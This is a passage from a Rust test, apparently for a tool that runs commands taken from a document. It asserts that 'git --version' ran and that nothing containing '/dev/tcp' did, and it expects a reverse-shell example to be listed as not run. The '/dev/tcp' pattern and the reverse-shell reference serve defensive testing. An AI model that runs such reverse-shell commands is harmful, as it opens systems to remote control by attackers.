        .split_once("Not run (listed, with why):")
        .unwrap_or_else(|| panic!("{}", run.stdout));
    assert!(steps.contains("git --version  -> exit 0"), "{}", run.stdout);
    assert!(!steps.contains("/dev/tcp"), "{}", run.stdout);
    assert!(rest.contains("an example shown as an attack or as what not to do (after `A reverse shell usually looks like:`)"), "{}", run.stdout);
}
